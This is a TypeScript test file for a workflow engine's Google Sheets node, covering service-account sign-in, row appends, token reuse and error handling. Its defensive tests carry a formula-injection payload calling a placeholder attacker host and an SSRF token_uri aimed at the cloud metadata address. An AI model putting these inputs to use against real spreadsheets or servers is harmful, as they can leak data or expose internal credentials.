import { exportPKCS8, generateKeyPair } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SafeHttpClient } from '../../src/common/http-client/safe-http-client.js';
import { FlowNodeRegistry } from '../../src/modules/flows/engine/flow-node-registry.js';
import { GoogleAccessTokens } from '../../src/modules/flows/nodes/google-sheets/google-access-tokens.js';
import { GoogleSheetsNode } from '../../src/modules/flows/nodes/google-sheets/google-sheets.node.js';
import {
  type GoogleSheetsCredentials,
  NoSheetsCredentials,
  SheetsCredentialsProvider,
} from '../../src/modules/flows/nodes/google-sheets/sheets-credentials.provider.js';
import { makeNode, makeRunContext } from './context.js';
import { startFakeGoogle } from './google-fake.js';

const CLIENT_EMAIL = 'flows@acme-project.iam.gserviceaccount.com';
const SHEET = '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms';

/** Credentials as the google-sheets plugin will hand them over, per tenant. */
class FixedCredentials extends SheetsCredentialsProvider {
  constructor(private readonly byTenant: Map<string, GoogleSheetsCredentials>) {
    super();
  }
  credentialsFor(tenantId: string) {
    return Promise.resolve(this.byTenant.get(tenantId));
  }
}

describe('google_sheets node', () => {
  let google: Awaited<ReturnType<typeof startFakeGoogle>>;
  let privateKey: string;
  let otherKey: string;
  const clients: SafeHttpClient[] = [];

  const ctx = makeRunContext({
    vars: { orderId: 'A-17', total: 99.5 },
    message: { id: 'm', type: 'text', text: '=IMPORTXML("http://evil.test","//a")', content: {} },
  });

  function nodeFor(
    credentials: Map<string, GoogleSheetsCredentials>,
    client = new SafeHttpClient({ allowPrivateNetworks: true }),
  ) {
    clients.push(client);
    return new GoogleSheetsNode(
      new FlowNodeRegistry(),
      new FixedCredentials(credentials),
      new GoogleAccessTokens(client),
      client,
    );
  }
  const connected = (key = privateKey, tokenUri = google.tokenUri) =>
    new Map([
      [
        ctx.tenantId,
        {
          serviceAccount: { client_email: CLIENT_EMAIL, private_key: key, token_uri: tokenUri },
          apiBaseUrl: google.origin,
        },
      ],
    ]);

  beforeAll(async () => {
    const pair = await generateKeyPair('RS256', { extractable: true });
    privateKey = await exportPKCS8(pair.privateKey);
    otherKey = await exportPKCS8((await generateKeyPair('RS256', { extractable: true })).privateKey);
    google = await startFakeGoogle({ clientEmail: CLIENT_EMAIL, publicKey: pair.publicKey });
  });
  afterAll(async () => {
    await Promise.all(clients.map((c) => c.close()));
    await google?.close();
  });

  it('is not connected until the google-sheets plugin provides credentials', async () => {
    const node = new GoogleSheetsNode(
      new FlowNodeRegistry(),
      new NoSheetsCredentials(),
      new GoogleAccessTokens(new SafeHttpClient()),
      new SafeHttpClient(),
    );
    const r = await node.execute(
      makeNode('google_sheets', { spreadsheetId: SHEET, sheet: 'Sheet1', values: ['x'] }),
      ctx,
    );
    expect(r).toEqual({
      kind: 'fail',
      error:
        'google_sheets node google_sheets_1: Google Sheets is not connected: install the google-sheets plugin',
    });
  });

  it('signs in with the service account and appends the rendered row', async () => {
    const node = nodeFor(connected());
    const r = await node.execute(
      makeNode('google_sheets', {
        spreadsheetId: SHEET,
        sheet: 'Orders!A:D',
        values: ['{{vars.orderId}}', '{{vars.total}}', '{{contact.name}}', '=ROW()', '{{message.text}}'],
      }),
      ctx,
    );
    expect(r).toMatchObject({ kind: 'next', output: { updatedRange: 'Orders!A2:E2', updatedRows: 1 } });
    expect(google.state.assertionClaims).toHaveLength(1);
    expect(google.state.assertionClaims[0]).toMatchObject({
      iss: CLIENT_EMAIL,
      aud: google.tokenUri,
      scope: 'https://www.googleapis.com/auth/spreadsheets',
    });
    const [row] = google.state.appended;
    expect(row).toMatchObject({ spreadsheetId: SHEET, range: 'Orders!A:D' });
    expect(row!.query.get('valueInputOption')).toBe('USER_ENTERED');
    // The author's formula stays a formula; the contact's text that looks like one is kept as text.
    expect(row!.body).toEqual({
      majorDimension: 'ROWS',
      values: [['A-17', '99.5', 'Ada Lovelace', '=ROW()', `'=IMPORTXML("http://evil.test","//a")`]],
    });
  });

  it('reuses the access token for the next rows', async () => {
    const node = nodeFor(connected());
    const before = google.state.tokenRequests;
    for (let i = 0; i < 3; i++) {
      await node.execute(
        makeNode('google_sheets', { spreadsheetId: SHEET, sheet: 'Sheet1', values: [`row ${i}`] }),
        ctx,
      );
    }
    expect(google.state.tokenRequests - before).toBe(1);
  });

  it("fails with Google's reason for a wrong key and for a sheet the account may not edit", async () => {
    const wrongKey = await nodeFor(connected(otherKey)).execute(
      makeNode('google_sheets', { spreadsheetId: SHEET, sheet: 'Sheet1', values: ['x'] }),
      ctx,
    );
    expect(wrongKey.kind === 'fail' && wrongKey.error).toMatch(
      /Google refused the service account \(HTTP 400, invalid_grant: Invalid JWT: signature verification failed/,
    );
    google.state.forbidden.add('locked-sheet-0000000');
    const locked = await nodeFor(connected()).execute(
      makeNode('google_sheets', { spreadsheetId: 'locked-sheet-0000000', sheet: 'Sheet1', values: ['x'] }),
      ctx,
    );
    expect(locked.kind === 'fail' && locked.error).toContain(
      'Google Sheets refused the row (HTTP 403, PERMISSION_DENIED: The caller does not have permission)',
    );
  });

  it('refuses a token_uri on a private address (the key file is tenant input)', async () => {
    const strict = nodeFor(connected(privateKey, 'http://169.254.169.254/token'), new SafeHttpClient());
    const r = await strict.execute(
      makeNode('google_sheets', { spreadsheetId: SHEET, sheet: 'Sheet1', values: ['x'] }),
      ctx,
    );
    expect(r.kind === 'fail' && r.error).toMatch(
      /could not reach the token endpoint.*cloud metadata address/,
    );
  });

  it('in test mode signs in to nothing and shows the row', async () => {
    const before = google.state.tokenRequests;
    const r = await nodeFor(connected()).execute(
      makeNode('google_sheets', { spreadsheetId: SHEET, sheet: 'Sheet1', values: ['{{vars.orderId}}'] }),
      { ...ctx, testMode: true },
    );
    expect(r).toEqual({
      kind: 'next',
      output: { testMode: true, wouldAppend: { spreadsheetId: SHEET, range: 'Sheet1', values: ['A-17'] } },
    });
    expect(google.state.tokenRequests).toBe(before);
  });

  it('fails naming the field for bad settings and for an incomplete key', async () => {
    const node = nodeFor(connected());
    const bad = await node.execute(
      makeNode('google_sheets', { spreadsheetId: '../x', sheet: 'Sheet1', values: [] }),
      ctx,
    );
    expect(bad.kind === 'fail' && bad.error).toMatch(
      /data\.spreadsheetId: is not a spreadsheet id; data\.values/,
    );
    const incomplete = nodeFor(
      new Map([
        [ctx.tenantId, { serviceAccount: { client_email: 'x', private_key: '', token_uri: 'ftp://x' } }],
      ]),
    );
    const r = await incomplete.execute(
      makeNode('google_sheets', { spreadsheetId: SHEET, sheet: 'Sheet1', values: ['x'] }),
      ctx,
    );
    expect(r.kind === 'fail' && r.error).toContain('(client_email, private_key, token_uri)');
  });
});
